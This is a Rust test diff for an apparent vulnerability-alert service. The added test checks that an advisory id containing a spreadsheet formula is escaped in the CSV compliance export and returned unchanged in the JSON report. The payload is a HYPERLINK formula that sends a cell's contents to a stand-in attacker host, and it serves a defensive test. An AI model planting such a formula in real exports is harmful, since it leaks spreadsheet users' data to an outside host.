@@ -527,7 +527,50 @@ async fn a_central_admin_imports_feeds_over_http_and_a_bad_one_changes_nothing(d
     assert_eq!(epmm["state"], "open", "{epmm}");
 }
 
+/// A vulnerability id that a spreadsheet would run as a formula (an imported record's id is
+/// text from a feed) reaches the compliance CSV defused, and the JSON as it is.
+async fn compliance_csv_cells_never_run_as_formulas(db: TestDb) {
+    let app = App::without_knowledge(&db).await;
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    let mut advisory = epmm_advisory(20, "12.5.0.1");
+    advisory.id = hostile.into();
+    let mut tx = app.f.store.begin_import().await.unwrap();
+    tx.upsert_advisory(&advisory).await.unwrap();
+    tx.commit(&json!({})).await.unwrap();
+    let central = app.f.token("nhs-england", Role::CentralAnalyst);
+    let body = json!({"vulnerabilities": [hostile]}).to_string();
+    let (status, issued) = app
+        .post("/api/v1/alerts/issue", central, body.as_bytes())
+        .await;
+    assert_eq!(status, 201, "{issued}");
+
+    let (_, report) = app.get("/api/v1/compliance/alerts", central).await;
+    assert_eq!(report["alerts"][0]["vulnerability"], hostile, "{report}");
+    let request = Request::builder()
+        .uri("/api/v1/compliance/alerts?format=csv")
+        .header("authorization", format!("Bearer {central}"))
+        .body(Body::empty())
+        .unwrap();
+    let response = app.router.clone().oneshot(request).await.unwrap();
+    assert_eq!(
+        response.headers()["content-type"],
+        "text/csv; charset=utf-8"
+    );
+    let bytes = axum::body::to_bytes(response.into_body(), 1 << 20)
+        .await
+        .unwrap();
+    let mut rows = csv::Reader::from_reader(bytes.as_ref());
+    let header: Vec<String> = rows.headers().unwrap().iter().map(str::to_owned).collect();
+    let subject = header.iter().position(|h| h == "vulnerability").unwrap();
+    let cells: Vec<String> = rows
+        .records()
+        .map(|r| r.unwrap()[subject].to_owned())
+        .collect();
+    assert_eq!(cells, [format!("'{hostile}")]);
+}
+
 ward_testdata::backend_tests!(
+    compliance_csv_cells_never_run_as_formulas,
     a_central_admin_imports_feeds_over_http_and_a_bad_one_changes_nothing,
     every_operation_refuses_anonymous_callers_and_roles_it_does_not_name,
     another_member_never_sees_a_members_data,
